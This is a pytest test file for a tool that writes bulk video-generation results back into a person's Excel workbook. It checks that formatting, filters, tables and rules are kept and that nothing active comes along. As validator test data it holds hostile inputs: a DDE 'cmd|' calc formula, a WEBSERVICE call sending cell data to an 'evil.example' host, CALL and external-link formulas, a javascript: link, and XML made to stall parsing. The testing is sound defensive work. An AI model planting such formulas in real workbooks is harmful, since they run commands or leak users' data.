"""A results workbook: what was in the person's sheet is there, ours stands apart, and nothing comes alive."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from bulkgen.ledger.state import Status
from bulkgen.model import Cell, Table
from bulkgen.result_columns import ResultColumn
from bulkgen.results import paint, source_book
from bulkgen.results.book import ResultsBook
from bulkgen.results.harmless import is_harmless
from bulkgen.results.other_sheets import beyond_cells, find_others
from bulkgen.results.paint import COLOURS, HEADER
from bulkgen.results.summary import Cause, Summary
from bulkgen.results.table import Results, with_errors
from bulkgen.results.writers import write_results
from bulkgen.sheet import read_sheet
from tests.looks import LOOKS, write_look

OURS = (ResultColumn.STATUS, ResultColumn.ERROR, ResultColumn.ID, ResultColumn.PAGE_URL)
LINK = "https://app.heygen.com/videos/"

SUMMARY = Summary(
    sheet="leads.xlsx, sheet Leads",
    counts={Status.DONE: 5, Status.FAILED: 1},
    causes=[Cause(status=Status.FAILED, count=1, what="=Your cell: too short", step="Edit the row", rows="4")],
    cost=1.25,
    seconds=3_725,
    changed="2026-11-22 01:32",
)


def results_of(table: Table, *, times: int = 1, name: str = "Leads") -> Results:
    """Each row so many times, all of them done but the last."""
    lines, rows = [], []
    for row in table.rows:
        for again in range(times):
            done = row is not table.rows[-1]
            texts = ("done" if done else "failed", "" if done else "Your cell", f"v_{row.number}_{again}", LINK + "1")
            cells = [row.cell(at) for at in range(len(table.headers))]
            lines.append((*cells, *(Cell(text, text) for text in texts)))
            rows.append(row.number)
    return Results(
        name=name,
        headers=(*table.headers, *(column.value for column in OURS)),
        lines=tuple(lines),
        header_row=table.header_row,
        rows=tuple(rows),
        columns=(*range(len(table.headers)), *[None] * len(OURS)),
    )


def given(name: str, folder: Path) -> tuple[Path, Table]:
    path = write_look(name, folder / "leads.xlsx")
    return path, read_sheet(path, sheet="Leads", header_row=4 if name == "titles" else 1)


def written(results: Results, source: Path, folder: Path) -> tuple[ResultsBook, Path]:
    book = ResultsBook(results, source=source.read_bytes(), summary=SUMMARY)
    return book, write_results(results, folder / "leads.results.xlsx", book=book)


def look_of(cell: Any) -> tuple[object, ...]:
    return tuple(map(repr, (cell.font, cell.fill, cell.border, cell.alignment, cell.number_format)))


def cells_of(sheet: Any) -> dict[str, Any]:
    return {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}


@pytest.mark.parametrize("name", sorted(LOOKS))
def test_what_was_in_the_sheet_is_in_its_results_and_they_read_back(name: str, tmp_path: Path) -> None:
    source, table = given(name, tmp_path)
    made, path = written(results_of(table), source, tmp_path)
    before, after = load_workbook(source, data_only=True)["Leads"], load_workbook(path)["Leads"]
    assert made.dressed
    for place, cell in cells_of(before).items():
        twin = after[place]
        if hasattr(cell, "_value"):
            assert look_of(twin) == look_of(cell), place
            assert twin.value == cell.value, place
    for row, dimension in before.row_dimensions.items():
        there = after.row_dimensions[row]
        assert (there.height, there.hidden) == (dimension.height, dimension.hidden), row
    for letters in "ABCDE":
        if letters not in before.column_dimensions:  # openpyxl knows a group by its first
            continue

        one, other = before.column_dimensions[letters], after.column_dimensions[letters]
        assert (one.hidden, one.outlineLevel) == (other.hidden, other.outlineLevel), letters
        if one.min == one.max:
            assert one.width == other.width, letters
    assert {str(cells) for cells in before.merged_cells.ranges} == {str(cells) for cells in after.merged_cells.ranges}
    back = read_sheet(path)
    assert (back.name, back.headers[-4:]) == ("Leads", tuple(column.value for column in OURS))
    assert back.header_row == table.header_row
    assert [row.number for row in back.rows] == [row.number for row in table.rows]
    assert [row.hidden for row in back.rows] == [row.hidden for row in table.rows]
    width = len(table.headers)
    for one_row, other_row in zip(table.rows, back.rows, strict=True):
        assert [one_row.cell(at).text for at in range(width)] == [other_row.cell(at).text for at in range(width)]


@pytest.mark.parametrize("name", sorted(LOOKS))
def test_nothing_of_a_workbook_comes_alive_in_its_results(name: str, tmp_path: Path) -> None:
    source, table = given(name, tmp_path)
    _, path = written(results_of(table), source, tmp_path)
    with zipfile.ZipFile(path) as archive:
        parts = {part: archive.read(part) for part in archive.namelist()}
    for part, content in parts.items():
        assert b"<f>" not in content or part.startswith("xl/charts/"), part
        for bad in (b"evil", b"WEBSERVICE", b"calc'!A1", b"calc'!A0</definedName"):
            assert bad not in content, part
        assert not any(word in part for word in ("comments", "vba", "externalLink", "media")), part
    assert beyond_cells(path, "Leads") == ""
    links = [cell.hyperlink.target for cell in cells_of(load_workbook(path)["Leads"]).values() if cell.hyperlink]
    assert links == [LINK + "1"] * len(table.rows)


def test_ours_stand_apart_with_plain_headings_colours_and_links(tmp_path: Path) -> None:
    source, table = given("titles", tmp_path)
    _, path = written(results_of(table), source, tmp_path)
    sheet = load_workbook(path)["Leads"]
    assert [sheet.cell(4, column).value for column in range(6, 10)] == ["Status", "What to do", "HeyGen ID", "Watch"]
    assert sheet["F4"].fill.start_color.rgb == f"00{HEADER[0]}"
    assert sheet["F5"].border.left.style == "medium"
    assert [sheet[place].fill.start_color.rgb for place in ("F5", "F10")] == [
        f"00{COLOURS[status][0]}" for status in (Status.DONE, Status.FAILED)
    ]
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:I10"
    assert sheet["I5"].hyperlink.target == sheet["I5"].value == LINK + "1"


def test_the_colours_of_statuses_are_legible_and_differ_in_lightness() -> None:
    def lightness(colour: str) -> float:
        parts = [int(colour[at : at + 2], 16) / 255 for at in (0, 2, 4)]
        linear = [part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    assert COLOURS.keys() == set(Status)
    for fill, letters, _ in COLOURS.values():
        assert (lightness(fill) + 0.05) / (lightness(letters) + 0.05) > 4.5
    done, failed = (lightness(COLOURS[status][0]) for status in (Status.DONE, Status.FAILED))
    assert done - failed > 0.2


def test_a_filter_stays_with_what_it_hides_and_covers_the_results(tmp_path: Path) -> None:
    source, table = given("filtered", tmp_path)
    _, path = written(results_of(table), source, tmp_path)
    sheet = load_workbook(path)["Leads"]
    assert sheet.auto_filter.ref == "A1:I7"
    assert sheet.auto_filter.filterColumn[0].filters.filter == ["Company 1", "Company 4"]
    assert [row for row in range(2, 8) if sheet.row_dimensions[row].hidden] == [3, 4, 6, 7]


def test_a_table_takes_the_results_in_and_no_filter_lies_over_it(tmp_path: Path) -> None:
    source, table = given("table", tmp_path)
    _, path = written(results_of(table, times=2), source, tmp_path)
    sheet = load_workbook(path)["Leads"]
    made = sheet.tables["Leads_1"]
    assert (made.ref, made.autoFilter.ref, sheet.auto_filter.ref) == ("A1:I13", "A1:I13", None)
    assert [column.name for column in made.tableColumns] == [cell.value for cell in sheet[1]]
    assert len({column.id for column in made.tableColumns}) == 9


def test_rules_stay_where_they_look_at_the_workbook_alone(tmp_path: Path) -> None:
    source, table = given("rules", tmp_path)
    made, path = written(results_of(table), source, tmp_path)
    sheet = load_workbook(path)["Leads"]
    assert {str(formats.sqref) for formats in sheet.conditional_formatting} == {"D2:D7", "A2:E7", "E2:E7"}
    entries = {str(each.sqref): each.formula1 for each in sheet.data_validations.dataValidation}
    assert entries == {"C2:C100": "=Companies!$A$1:$A$6", "B2:B100": '"voice_anna,voice_ben"'}
    assert made.left_out == (source_book.RULES,)


def test_a_row_with_several_languages_brings_its_look_along_and_rules_follow(tmp_path: Path) -> None:
    source, table = given("repeated", tmp_path)
    _, path = written(results_of(table, times=3), source, tmp_path)
    sheet, before = load_workbook(path)["Leads"], load_workbook(source)["Leads"]
    for line in range(18):
        for column in range(1, 6):
            cell = before.cell(2 + line // 3, column)
            assert look_of(sheet.cell(2 + line, column)) == look_of(cell)
    assert [row for row in range(1, 20) if sheet.row_dimensions[row].height == 45] == [8, 9, 10]
    formats = {str(each.sqref): each.rules[0].formula for each in sheet.conditional_formatting}
    assert formats == {"A2:E19": ['$C2="Company 5"']}
    assert not sheet.merged_cells.ranges  # it would lie over other people's rows


def test_a_rule_moves_with_its_first_row(tmp_path: Path) -> None:
    book = LOOKS["repeated"]()
    sheet: Any = book["Leads"]
    rule = next(iter(sheet.conditional_formatting)).rules[0]
    sheet.conditional_formatting.add("D4:D5", replace_formula(rule, "$D4>100"))
    sheet.conditional_formatting.add("E4:E5", replace_formula(rule, "E4>$D$2"))
    source = tmp_path / "leads.xlsx"
    book.save(source)
    made, path = written(results_of(read_sheet(source), times=2), source, tmp_path)
    formats = {str(f.sqref): f.rules[0].formula for f in load_workbook(path)["Leads"].conditional_formatting}
    assert formats == {"A2:E13": ['$C2="Company 5"'], "D6:D9": ["$D6>100"]}
    assert source_book.RULES in made.left_out


def replace_formula(rule: Any, formula: str) -> Any:
    from copy import copy

    made = copy(rule)
    made.formula = [formula]
    return made


def test_other_sheets_come_along_as_values_and_stay_hidden(tmp_path: Path) -> None:
    source, table = given("sheets", tmp_path)
    made, path = written(results_of(table), source, tmp_path)
    book = load_workbook(path)
    assert book.sheetnames == ["Summary", "Sums", "Leads", "Secret"]
    assert book["Secret"].sheet_state == "hidden"
    assert book["Sums"]["A1"].font.color.rgb == "00C00000"
    assert book["Sums"]["B1"].value is None  # it was never computed
    assert [*book.defined_names] == ["Budgets"]
    assert made.left_out[0] == "some names of cells"
    assert "that were never computed" in made.left_out[1]


def test_formulas_are_their_last_values(tmp_path: Path) -> None:
    source, table = given("sheets", tmp_path)
    computed, formula = tmp_path / "computed.xlsx", b"<f>SUM(Leads!D2:D7)</f>"
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(computed, "w") as other:
        for part in archive.namelist():
            content = archive.read(part)
            other.writestr(part, re.sub(re.escape(formula) + rb"<v ?(/>|></v>)", formula + b"<v>42</v>", content))
    made, path = written(results_of(table), computed, tmp_path)
    assert made.left_out == ("some names of cells",)
    cell = load_workbook(path)["Sums"]["B1"]
    assert (cell.value, cell.data_type) == (42, "n")


def test_what_the_person_keeps_in_sight_stays_and_the_copy_is_not_locked(tmp_path: Path) -> None:
    source, table = given("views", tmp_path)
    made, path = written(results_of(table), source, tmp_path)
    sheet: Any = load_workbook(path)["Leads"]
    assert (sheet.freeze_panes, sheet.sheet_view.rightToLeft, sheet.sheet_view.zoomScale) == ("C2", True, 130)
    assert (sheet.protection.sheet, sheet.print_title_rows, sheet.oddFooter.center.text) == (False, "$1:$1", "Page &P")
    assert sheet.print_area == "'Leads'!$A$1:$C$7"
    assert made.left_out == ("protection",)
    _, path = written(results_of(table, times=2), source, tmp_path)
    assert load_workbook(path)["Leads"].print_area == "'Leads'!$A$1:$C$13"


def test_what_a_copy_has_not_is_named(tmp_path: Path) -> None:
    source, table = given("hostile", tmp_path)
    made, _ = written(results_of(table), source, tmp_path)
    assert made.left_out == ("charts", "notes", "links")


def test_a_column_of_theirs_by_the_name_of_one_of_ours_stays_theirs(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.create_sheet("Leads", 0)
    sheet.append(["text", "Status", "Watch", "Watch (bulkgen)"])
    sheet.append(["Hello", "customer", "rolex", "x"])
    source = tmp_path / "leads.xlsx"
    book.save(source)
    table = read_sheet(source, sheet="Leads")
    assert table.headers == ("text", "Status", "Watch", "Watch (bulkgen)")
    _, path = written(results_of(table), source, tmp_path)
    assert load_workbook(path)["Leads"].column_dimensions["E"].width >= len("Status (bulkgen)") + 5
    back = read_sheet(path, sheet="Leads")
    assert back.headers == (*table.headers, *(column.value for column in OURS))
    assert back.rows[0].cell(1).text == "customer"


def test_links_beyond_what_a_sheet_holds_are_plain_texts_and_so_are_long_ones(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source, table = given("titles", tmp_path)
    results = results_of(table)
    long, odd = LINK + "x" * 2_100, "javascript:alert(1)"
    lines = [(*line[:-1], Cell(text, text)) for line, text in zip(results.lines, (long, odd), strict=False)]
    _, path = written(replace(results, lines=(*lines, *results.lines[2:])), source, tmp_path)
    sheet = load_workbook(path)["Leads"]
    assert [sheet.cell(row, 9).value for row in (5, 6)] == [long, odd]
    assert [bool(sheet.cell(row, 9).hyperlink) for row in range(5, 11)] == [False, False, True, True, True, True]
    monkeypatch.setattr(paint.clickable, "__defaults__", (5,))
    _, path = written(results, source, tmp_path)
    assert not any(load_workbook(path)["Leads"].cell(row, 9).hyperlink for row in range(5, 11))


@pytest.mark.parametrize("limit", ["UNPACKED_LIMIT", "ROWS_LIMIT", "CELLS_LIMIT"])
def test_a_workbook_that_would_take_long_gives_plain_results(
    limit: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source, table = given("titles", tmp_path)
    monkeypatch.setattr(source_book, limit, 3)
    made, path = written(results_of(table), source, tmp_path)
    assert not made.dressed
    assert "the look of your sheet" in made.left_out[0]
    book = load_workbook(path)
    assert book.sheetnames == ["Summary", "Leads"]
    assert [cell.value for cell in book["Leads"][1]][5:] == ["Status", "What to do", "HeyGen ID", "Watch"]
    assert (book["Leads"].auto_filter.ref, book["Leads"].freeze_panes) == ("A1:I7", "A2")
    assert book["Leads"]["I2"].hyperlink.target == LINK + "1"
    assert len(read_sheet(path).rows) == 6


@pytest.mark.parametrize(
    "harm",
    [
        pytest.param(
            (b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), id="1"
        ),
        pytest.param((b"</sheetData>", b'</sheetData><hyperlinks><hyperlink ref="A1:XFD99999"/></hyperlinks>'), id="2"),
        pytest.param((b"<worksheet", b"<!DOCTYPE x><worksheet"), id="3"),
        pytest.param((b'<c r="A1"', b'<c s="9999" r="A1" x="1"'), id="4"),
    ],
)
def test_a_workbook_made_to_take_long_or_to_fail_is_no_base(harm: tuple[bytes, bytes], tmp_path: Path) -> None:
    path = write_look("texts", tmp_path / "leads.xlsx")
    made = io.BytesIO()
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(made, "w") as other:
        for part in archive.namelist():
            other.writestr(part, archive.read(part).replace(*harm))
    assert source_book.source_book(path.read_bytes(), "Leads") is not None
    assert source_book.source_book(made.getvalue(), "Leads") is None


def test_a_cell_that_can_not_be_used_stays_so(tmp_path: Path) -> None:
    never = Cell("", None, unusable="is a formula whose value was never computed")
    results = Results(name="Leads", headers=("a", "b"), lines=((never, Cell("#REF!", None, unusable="bad")),))
    for shown, expected in ((results, ["", "#REF!"]), (with_errors(results), ["#N/A", "#REF!"])):
        row = read_sheet(write_results(shown, tmp_path / "leads.results.xlsx")).rows[0]
        assert [row.cell(at).text for at in (0, 1)] == expected
        assert all(cell.unusable for cell in row.cells if cell.text)


def test_the_summary_stands_in_front_with_figures_a_chart_and_what_to_do(tmp_path: Path) -> None:
    source, table = given("titles", tmp_path)
    _, path = written(results_of(table), source, tmp_path)
    book = load_workbook(path)
    sheet: Any = book["Summary"]
    active: Any = book.active
    texts = [[cell.value for cell in row if cell.value is not None] for row in sheet.iter_rows()]
    assert active is sheet
    assert [name for name in book.sheetnames if book[name].sheet_view.tabSelected] == ["Summary"]
    for line in (["All", 6], ["Cost (USD)", 1.25], ["Length of all", "1 hour 2 minutes"]):
        assert line in texts
    assert ["failed", 1, "=Your cell: too short", "Edit the row", "4"] in texts
    assert ["Last change (UTC)", "2026-11-22 01:32"] in texts
    assert len(active._charts) == 1
    assert read_sheet(path).siblings == 1


def test_what_stands_beside_the_lines_is_known_again_and_what_a_person_changed_there_too(tmp_path: Path) -> None:
    source, table = given("titles", tmp_path)
    made, path = written(results_of(table), source, tmp_path)
    others = find_others(path, "Leads", 4, made.others, unchanged=False)
    assert (others.carried, others.above) == ((), False)
    book = load_workbook(path)
    book["Summary"]["C9"], book["Leads"]["A2"] = "call them", "Owner: Ben"
    book.create_sheet("Mine")["A1"] = 1
    book.save(path)
    others = find_others(path, "Leads", 4, made.others, unchanged=False)
    assert (others.carried, others.above) == (("Summary", "Mine"), True)


def test_a_drawing_on_which_there_is_nothing_is_none(tmp_path: Path) -> None:
    source, table = given("titles", tmp_path)
    _, path = written(results_of(table), source, tmp_path)
    for drawing, told in ((b"<xdr:wsDr/>", ""), (b"<xdr:oneCellAnchor/>", "pictures, drawings or charts")):
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(f"xl/drawings/drawing{len(drawing)}.xml", drawing)
        assert beyond_cells(path, "Leads") == told


@pytest.mark.parametrize(
    ("formula", "harmless"),
    [
        ("$C2>100", True),
        ('AND(LEN(A2)>3,COUNTIF($A$2:$A$9,A2)=1,B2="x")', True),
        ("Lists!$A$1:$A$9", True),
        ("'Lists'!A:A", True),
        ("Names", True),
        ('"a,b,c"', True),
        ("100", True),
        ("Other!A1", False),
        ("[1]Lists!A1", False),
        ("'[evil.xlsx]Lists'!$A$1", False),
        ("'\\\\evil\\[x.xlsx]Lists'!A1", False),
        ("cmd|'/c calc'!A0", False),
        ('HYPERLINK("https://evil.example")', False),
        ('WEBSERVICE("https://evil.example?"&A1)', False),
        ('INDIRECT("[evil.xlsx]a!A1")', False),
        ("_xlfn.WEBSERVICE(A1)", False),
        ("CALL(1)", False),
        ("IF(A1,CALL(1),2)", False),
        ("Stranger", False),
        ('"unclosed', False),
    ],
)
def test_a_rule_may_look_at_cells_of_the_workbook_and_nothing_else(formula: str, harmless: bool) -> None:
    assert is_harmless(formula, {"Lists", "Leads"}, ["Names"]) is harmless


def test_five_thousand_rows_take_seconds_and_each_cell_is_visited_once(tmp_path: Path) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Leads")
    sheet.append(["text", "voice_id", "company"])
    for number in range(5_000):
        sheet.append([f"Hello {number}", "voice_anna", number])
    source = tmp_path / "leads.xlsx"
    book.save(source)
    made, path = written(results_of(read_sheet(source)), source, tmp_path)
    assert (made.dressed, made.rows[-1]) == (True, 5_001)
    assert len(read_sheet(path).rows) == 5_000


def altered(path: Path, *changes: tuple[bytes, bytes]) -> None:
    """Each of these in the parts of a workbook, as another program writes it."""
    made = io.BytesIO()
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(made, "w") as other:
        for part in archive.namelist():
            content = archive.read(part)
            for before, after in changes:
                content = content.replace(before, after)
            other.writestr(part, content)
    path.write_bytes(made.getvalue())


EXTENSIONS = (
    b'<extLst><ext xmlns:x14="x" uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:cfvo type="formula">'
    b'<xm:f xmlns:xm="y">A1</xm:f></x14:cfvo></ext></extLst></worksheet>'
)


@pytest.mark.parametrize(
    ("cell", "told"),
    [
        ((b"</worksheet>", EXTENSIONS), ""),
        (
            (b"</sheetData>", b'<row r="90"><c r="J90" t="b"><f aca="false">TRUE()</f><v>1</v></c></row></sheetData>'),
            "",
        ),
        ((b"</sheetData>", b'<row r="90"><c r="J90"><f>1+1</f><v>2</v></c></row></sheetData>'), "formulas"),
        ((b"</sheetData>", b'<row r="90"><c r="J90"><f t="shared" si="0"/><v>2</v></c></row></sheetData>'), "formulas"),
    ],
)
def test_only_a_formula_of_a_cell_is_one(cell: tuple[bytes, bytes], told: str, tmp_path: Path) -> None:
    source, table = given("titles", tmp_path)
    _, path = written(results_of(table), source, tmp_path)
    altered(path, cell)
    assert beyond_cells(path, "Leads") == told


def test_a_truth_that_another_program_wrote_as_a_formula_is_still_that_of_the_sheet(tmp_path: Path) -> None:
    book: Any = LOOKS["sheets"]()
    book["Secret"]["A2"], book["Secret"]["A3"] = True, False
    source = tmp_path / "leads.xlsx"
    book.save(source)
    made, path = written(results_of(read_sheet(source, sheet="Leads")), source, tmp_path)
    book = load_workbook(path)
    book["Secret"]["A2"], book["Secret"]["A3"] = "=TRUE()", "=FALSE()"
    book.save(path)
    assert find_others(path, "Leads", 1, made.others, unchanged=False).carried == ()


def test_a_sheet_of_theirs_with_more_than_can_be_copied_is_told_and_what_is_drawn_is_not(tmp_path: Path) -> None:
    source, table = given("sheets", tmp_path)
    _, path = written(results_of(table), source, tmp_path)
    altered(path, (b"</worksheet>", EXTENSIONS))
    assert beyond_cells(path, "Leads", ["Secret"]) == ""
    altered(path, (b"{78C0D931", b"{CCE6A557"))
    assert (beyond_cells(path, "Leads", ["Secret"]), beyond_cells(path, "Leads")) == ("more than cells", "")


@pytest.mark.parametrize("dressed", [True, False])
def test_a_row_is_as_high_as_what_to_do_needs_and_never_lower_than_theirs(
    dressed: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source, table = given("repeated", tmp_path)  # its fourth row is 45 points high
    results = results_of(table)
    if not dressed:
        monkeypatch.setattr(source_book, "CELLS_LIMIT", 3)
    texts = ("short", "", "two lines of words, " * 4, "ends " * 400, "", "a\nb\nc")
    at = results.headers.index(ResultColumn.ERROR)
    lines = [(*line[:at], Cell(text, text), *line[at + 1 :]) for line, text in zip(results.lines, texts, strict=True)]
    made, path = written(replace(results, lines=tuple(lines)), source, tmp_path)
    assert made.dressed == dressed
    sheet = load_workbook(path)["Leads"]
    heights = [sheet.row_dimensions[row].height for row in range(2, 8)]
    assert heights == [None, None, 45 if dressed else 30.1, 75.4, None, 45.2]
